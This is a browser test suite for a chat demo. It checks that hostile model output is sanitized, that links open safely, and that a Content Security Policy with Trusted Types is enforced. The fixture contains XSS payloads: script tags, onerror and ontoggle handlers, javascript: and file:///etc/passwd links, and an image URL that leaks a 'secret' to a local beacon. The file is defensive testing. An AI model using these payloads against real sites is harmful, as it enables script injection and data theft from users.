import { createServer, type Server } from 'node:http'
import type { AddressInfo } from 'node:net'
import { afterAll, beforeAll, describe, expect, vi } from 'vitest'
import { serverAt } from '../server/client.ts'
import { startServer, type TestServer } from '../server/server.ts'
import { answer, call, say } from '../server/turns.ts'
import { waitFor } from '../wait-for.ts'
import { test } from './browser.ts'
import { type Demo, startDemo } from './demo.ts'

vi.setConfig({ testTimeout: 60_000, hookTimeout: 60_000 })

describe('hostile output', () => {
  let endpoint: TestServer
  let beacon: Server
  let beaconURL: string
  const beaten: string[] = []
  let demo: Demo
  let script: Awaited<ReturnType<ReturnType<typeof serverAt>['script']>>

  beforeAll(async () => {
    endpoint = await startServer()
    script = await serverAt(endpoint.origin).script([])
    beacon = createServer((request, response) => {
      beaten.push(request.url ?? '')
      response.end()
    })
    await new Promise<void>((resolve) => beacon.listen(0, '127.0.0.1', resolve))
    beaconURL = `http://127.0.0.1:${(beacon.address() as AddressInfo).port}`
    demo = await startDemo({ OPENAI_API_KEY: 'sk-test', OPENAI_BASE_URL: script.baseURL, OPENAI_MODEL: 'test-model' })
  })
  afterAll(async () => {
    await demo?.close()
    await endpoint?.close()
    beacon?.close()
  })

  const hostile = () => `# Hello

<script>document.title = 'owned'</script>
<img src="${beaconURL}/html-image" onerror="document.title = 'owned'">
<form action="${beaconURL}/form"><input name="a"><button>Go</button></form>
<style>body { display: none }</style>
<link rel="stylesheet" href="${beaconURL}/style">
<iframe src="${beaconURL}/frame"></iframe>
<svg><image href="${beaconURL}/svg"/><a href="javascript:alert(1)">x</a></svg>
<p id="message" style="background: url(${beaconURL}/css)" class="problem">clobber</p>
<details open ontoggle="document.title = 'owned'"><summary>x</summary></details>

![secret](${beaconURL}/image?q=secret) and ![data](data:image/svg+xml;base64,PHN2Zz48L3N2Zz4=)

[script](javascript:document.title='owned') [data](data:text/html,<script>1</script>) [file](file:///etc/passwd) [ok](${beaconURL}/link "a title")
[reference][1] <${beaconURL}/auto> ${beaconURL}/bare

[1]: javascript:alert(1) "x"

The end.`

  test('gets no markup, no request and no script of its own into the page', async ({ browser }) => {
    await script.add(
      answer([call('calculate', { expression: '<img src=x onerror=alert(1)>' })]),
      say([...hostile()].map(String)),
    )
    const page = await browser.open(demo)
    await page.model.selectOption('test-model (key stays on the server)')
    await page.ask('<img src=x onerror=alert(1)> hello')
    await page.shows('The end.')

    const { log } = page
    const forbidden =
      'script, img, image, form, input, button, style, link, iframe, svg:not(.icon), [id], [style], [onerror], [ontoggle], object, embed, base, meta, video, audio, source'
    expect(await log.locator(`.markdown :is(${forbidden}), .said *, .values pre *`).count()).toBe(0)
    expect(await log.locator('.markdown [class]').count()).toBe(0)
    expect(await page.page.title()).not.toContain('owned')

    const links = await log.locator('a').evaluateAll((anchors) =>
      anchors.map((anchor) => ({
        href: anchor.getAttribute('href'),
        rel: anchor.getAttribute('rel'),
        target: anchor.getAttribute('target'),
      })),
    )
    expect(links.map(({ href }) => href)).toEqual([`${beaconURL}/link`, `${beaconURL}/auto`, `${beaconURL}/bare`])
    for (const { rel, target } of links) {
      expect(rel?.split(' ')).toContain('noopener')
      expect(target).toBe('_blank')
    }
    // what was left out is there to read
    await page.shows(`Image not loaded: secret (${beaconURL}/image?q=secret)`)
    await page.shows(/javascript:document\.title/)
    await page.shows(/<script>document\.title = 'owned'<\/script>/)
    expect(beaten).toEqual([])

    await page.page.reload()
    await page.shows('The end.')
    expect(beaten).toEqual([])
  })

  test('opens a link on a click only, in a tab that knows nothing of the page', async ({ browser }) => {
    await script.add(say(`[A link](${beaconURL}/clicked)`))
    const page = await browser.open(demo)
    await page.model.selectOption('test-model (key stays on the server)')
    await page.ask('Hello')
    await page.shows(`(${beaconURL}/clicked)`)
    expect(beaten).not.toContain('/clicked')
    const opened = await browser.opened(() => page.log.getByRole('link', { name: 'A link' }).click())
    await opened.page.waitForLoadState()
    expect(beaten).toContain('/clicked')
    expect(await opened.page.evaluate(() => window.opener)).toBeNull()
    expect(await opened.page.evaluate(() => document.referrer)).toBe('')
  })

  test('meets a policy with Trusted Types, on the page and on the worker', async ({ browser }) => {
    const page = await browser.open(demo)
    await page.ask('What is 1 + 1?')
    const [worker] = page.page.workers()
    const policies = await Promise.all(
      [demo.url, worker?.url() ?? ''].map(async (url) => (await fetch(url)).headers.get('content-security-policy')),
    )
    for (const policy of policies) {
      expect(policy).toMatch(/default-src 'none'; script-src 'self';/)
      expect(policy).toMatch(/require-trusted-types-for 'script'/)
      expect(policy).toMatch(/frame-ancestors 'none'/)
      expect(policy).not.toMatch(/unsafe|\*(?!;|$)(?!:)\./)
    }
    expect(policies[0]).toMatch(/trusted-types dompurify turnloop-demo-worker;/)
    expect(policies[1]).toMatch(/trusted-types 'none'/)
    expect(await page.page.locator('meta[http-equiv=Content-Security-Policy]').count()).toBe(1)
  })

  test('is stopped by the policy even where a page would let it through', async ({ browser }) => {
    browser.expectFault(/Content Security Policy|CSP violation|TrustedHTML/)
    const page = await browser.open(demo)
    const outcome = await page.page.evaluate(() => {
      try {
        document.body.insertAdjacentHTML('beforeend', '<p>x</p>')
        return 'let through'
      } catch (error) {
        return (error as Error).name
      }
    })
    expect(outcome).toBe('TypeError')
    await waitFor(() => expect(demo.complaints.join()).toMatch(/CSP violation.*require-trusted-types-for/))
    browser.expectComplaint(/require-trusted-types-for/)
  })
})
